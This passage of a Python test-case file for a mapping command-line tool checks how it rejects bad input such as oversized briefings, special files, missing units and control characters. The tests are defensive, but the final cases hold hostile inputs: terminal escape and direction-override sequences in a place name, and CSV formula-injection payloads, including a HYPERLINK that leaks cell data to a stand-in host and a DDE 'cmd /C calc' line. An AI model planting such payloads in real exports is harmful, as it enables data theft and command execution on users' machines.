         "{d}/b.toml:3: ranges: 5 ranges from an area; a briefing may have at most 4 (each measures every place "
         "against the area's outline)", files={"b.toml": _toml(area_range * 5)}, bounded=True)
    case("briefing-too-many-steps", _render("{d}/b.toml"),
         "{d}/b.toml:3: steps: 51 steps; a briefing may have at most 50 (a story is told a step at a time)",
         files={"b.toml": _toml('[[steps]]\ntitle = "A step"\n' * 51)}, bounded=True)
    case("step-highlights-too-many", _render("{d}/b.toml"),
         "{d}/b.toml:5: steps[0].highlight: 201 ids; a step may highlight at most 200",
         files={"b.toml": _toml('[[steps]]\ntitle = "A step"\nhighlight = ['
                                + ", ".join(f'"f{i}"' for i in range(201)) + "]\n")}, bounded=True)
    case("range-too-many-measures", _render("{d}/b.toml"),
         "Russia: measuring 3,524 places against 75,259 points of its outline takes 265,212,716 distances; "
         "at most 100,000,000 (draw fewer places or use a simpler area)", exit_code=2, error=InputError,
         files={"b.toml": _story_toml('places = ["p.csv"]\n' + area_range),
                "p.csv": PLACES_HEADER + "".join(f"Place {i},50.{i:05d},30.5,me,UA\n" for i in range(3_500))},
         bounded=True)
    case("special-briefing-dev-zero", _render("{d}/b.toml"), "{d}/b.toml: not a regular file",
         setup=dev_zero("b.toml"), bounded=True)
    case("special-briefing-fifo", _render("{d}/b.toml"), "{d}/b.toml: not a regular file",
         setup=fifo("b.toml"), bounded=True)
    case("special-places-file-fifo", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: not a regular file",
         files={"b.toml": with_places_csv}, setup=fifo("p.csv"), bounded=True)
    case("special-points-file-dev-zero", _render(points=["{d}/p.csv"]), "{d}/p.csv: not a regular file",
         setup=dev_zero("p.csv"), bounded=True)
    case("special-briefing-points-fifo", _render("{d}/b.toml"),
         "{d}/b.toml:4: points[0].file: {d}/p.csv: not a regular file",
         files={"b.toml": _toml('[[points]]\nfile = "p.csv"\n')}, setup=fifo("p.csv"), bounded=True)
    case("special-area-fifo", reach("fath-360", "belgorod", "{d}/front.geojson"),
         "{d}/front.geojson: not a regular file", setup=fifo("front.geojson"), bounded=True)
    case("special-registry-dev-zero", _places(), "{d}/geo/events.json: not a regular file",
         setup=geo_link("events.json"), bounded=True)
    case("special-briefing-data-folder-dev-zero", _render("{d}/b.toml"),
         "{d}/b.toml:3: data: {d}/mine/events.json: not a regular file",
         files={"b.toml": _toml('data = ["mine"]\n')},
         setup=lambda d: ((d / "mine").mkdir(), (d / "mine" / "events.json").symlink_to("/dev/zero")), bounded=True)
    # -- bounded work: terminal, output paths, units, CSV and KML exports ----------
    def route_call(speed):
        def api(d):
            from mapper import api as front

            return front.route(["astara", "makhachkala"], "sea", speed, DATA_DIR)

        return ("route", "astara", "makhachkala", "--speed", speed), api

    def new_briefing_call(name):
        def api(d):
            from mapper import api as front

            return front.new_briefing(name.format(d=d))

        return ("new-briefing", name), api

    def export_call(briefing, output, fmt):
        def api(d):
            from mapper import api as front

            return front.export(briefing.format(d=d), output.format(d=d), fmt)

        return ("export", briefing, "-f", fmt, "-o", output), api

    def ring_output_call(output):
        def api(d):
            from mapper import api as front

            return front.write_features(output.format(d=d), [front.ring("50.45,30.52", "10km", DATA_DIR)])

        return ("ring", "50.45,30.52", "-r", "10km", "-o", output), api

    def dangling_link(name, target):
        return lambda d: (d / name).symlink_to(d / target)

    terminal_name = "Kyiv\x1b[2K\r\x1b]0;owned\x07\x9b31m\u202e0.1 km\u202c\x08"
    case("radius-without-unit", _ring("50.45,30.52", "120"),
         "radius '120' needs a unit: 120km, 120mi, 120nmi or 120m", exit_code=2, error=InputError, bounded=True)
    case("radius-below-a-metre", _ring("50.45,30.52", "1e-9km"),
         "radius 1e-06 m is less than 1 m, the smallest ring mapper draws", exit_code=2, error=InputError,
         bounded=True)
    case("radius-in-millimetres", _ring("50.45,30.52", "1mm"),
         "unknown unit 'mm'; use one of m, km, mi, nmi", exit_code=2, error=InputError, bounded=True)
    case("speed-without-unit", route_call("10"),
         "speed '10' needs a unit: 10kn, 10km/h, 10mph or 10m/s", exit_code=2, error=InputError, bounded=True)
    def many_stops_call(count, avoid=()):
        stops = ["astara", *["makhachkala"] * (count - 2), "olya"]

        def api(d):
            from mapper import api as front

            return front.route(stops, "sea", "10kn", DATA_DIR, avoid=avoid)

        return ("route", stops[0], stops[-1], *(a for s in stops[1:-1] for a in ("--via", s)),
                *(a for name in avoid for a in ("--avoid", name))), api

    case("route-too-many-stops", many_stops_call(26), "a route goes through at most 25 places, got 26",
         exit_code=2, error=InputError, bounded=True)
    case("route-too-many-closed", many_stops_call(2, ["suez"] * 31),
         "avoid: at most 30 canals and straits may be closed, got 31", exit_code=2, error=InputError, bounded=True)
    case("briefing-speed-without-unit", _render("{d}/b.toml"),
         "{d}/b.toml:7: routes[0].speed: speed '12' needs a unit: 12kn, 12km/h, 12mph or 12m/s",
         files={"b.toml": _story_toml('[[routes]]\nfrom = "astara"\nto = "makhachkala"\nspeed = 12\n',
                                      layers=("places", "sea-routes"))}, bounded=True)
    case("output-ends-in-slash", ring_output_call("{d}/out.geojson/"),
         "{d}/out.geojson/: ends in '/', so it names a folder, not a file to write", exit_code=2, error=InputError,
         bounded=True)
    case("output-dangling-symlink", ring_output_call("{d}/out.geojson"),
         "{d}/out.geojson: is a symlink to {d}/maps/today.geojson, which does not exist; use --overwrite to "
         "replace it", api_message="{d}/out.geojson: is a symlink to {d}/maps/today.geojson, which does not exist",
         setup=dangling_link("out.geojson", "maps/today.geojson"), error=OutputExistsError, bounded=True)
    case("new-briefing-control-character", new_briefing_call("{d}/brief\x1b[31mred"),
         "briefing name '{d}/brief\\x1b[31mred': holds a control character (U+001B); give a file name such as "
         "my-briefing", exit_code=2, error=InputError, bounded=True)
    case("new-briefing-direction-override", new_briefing_call("{d}/invoice\u202elmth"),
         "briefing name '{d}/invoice\\u202elmth': holds a control character (U+202E); give a file name such as "
         "my-briefing", exit_code=2, error=InputError, bounded=True)
    case("places-name-with-terminal-sequences", _places(), None,
         setup=_set_place("kyiv", name=terminal_name), bounded=True)
    case("kml-export-control-character-id", export_call("{d}/b.toml", "{d}/x.kml", "kml"), None,
         files={"b.toml": _story_toml('[[ranges]]\nid = "a\\u001bb"\nsystem = "fath-360"\ncentre = "kyiv"\n',
                                      layers=("ranges",))}, bounded=True)
    case("csv-export-formula-names", export_call("{d}/b.toml", "{d}/x.csv", "csv"), None,
         files={"b.toml": with_places_csv,
                "p.csv": PLACES_HEADER + '"=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",50.48,34.97,me,UA\n'
                                         "+cmd|' /C calc'!A0,50.5,34.9,me,UA\n@SUM(1),50.6,34.8,me,UA\n"},
         bounded=True)
    return cases


def api_outcome(case, folder):
    """Run ``case`` through the API in ``folder``: (error class name or None, message, [warning messages])."""
    import warnings

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            case.api(folder)
            error = message = None
        except MapperError as exc:
            error, message = type(exc).__name__, str(exc)
    shown = [str(w.message) for w in caught if issubclass(w.category, CoordinateWarning)]
    return error, message, shown


CASES = _cases()
BY_NAME = {c.name: c for c in CASES}
assert len({c.name for c in CASES}) == len(CASES), "case names must be unique"


if __name__ == "__main__" and sys.argv[1:2] == ["--api"]:
    # In a process of its own (see test_bad_input.py): prints the outcome as JSON.
    print(json.dumps(api_outcome(BY_NAME[sys.argv[2]], Path(sys.argv[3]))))
elif __name__ == "__main__":
    import os
    import subprocess
    import tempfile

    mapper = Path(sys.executable).parent / "mapper"
    wanted = sys.argv[1:]
    for c in CASES:
        if wanted and c.name not in wanted:
            continue
        with tempfile.TemporaryDirectory() as tmp:
            d = Path(tmp)
            c.prepare(d)
            args = [a.format(d=d) for a in c.args]
            prefix = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search"] if c.unprivileged else []
            run = subprocess.run([*prefix, str(mapper), *args], cwd=d, capture_output=True, text=True,
                                 env={**os.environ, "MAPPER_ARTICLES_DIR": str(REPO.parent / "shared" / "seeds")})
            print(f"{c.name}: rc={run.returncode} {run.stderr.strip().replace(str(d), '{d}')}")
